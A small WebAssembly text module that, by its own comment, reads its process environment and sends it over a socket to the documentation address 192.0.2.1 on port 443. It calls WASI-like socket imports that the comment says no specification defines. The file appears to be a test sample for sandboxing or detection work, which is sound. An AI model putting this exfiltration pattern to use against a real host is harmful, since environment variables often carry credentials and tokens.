;; Opens a socket and sends its environment. The names look like WASI; no version of the specification has them.
(module
  (import "wasi_snapshot_preview1" "environ_sizes_get" (func $environ_sizes_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "environ_get" (func $environ_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "sock_open" (func $sock_open (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "sock_connect" (func $sock_connect (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "sock_send" (func $sock_send (param i32 i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 2 2)
  ;; 192.0.2.1, an address kept for documentation: {buffer, length}, then the bytes.
  (data (i32.const 16) "\20\00\00\00\04\00\00\00")
  (data (i32.const 32) "\c0\00\02\01")
  (func (export "_start")
    (drop (call $environ_sizes_get (i32.const 0) (i32.const 4)))
    (drop (call $environ_get (i32.const 1024) (i32.const 65536)))
    (drop (call $sock_open (i32.const 1) (i32.const 2) (i32.const 8)))
    (drop (call $sock_connect (i32.load (i32.const 8)) (i32.const 16) (i32.const 443)))
    (i32.store (i32.const 48) (i32.const 65536))
    (i32.store (i32.const 52) (i32.load (i32.const 4)))
    (drop (call $sock_send (i32.load (i32.const 8)) (i32.const 48) (i32.const 1) (i32.const 0) (i32.const 56)))))
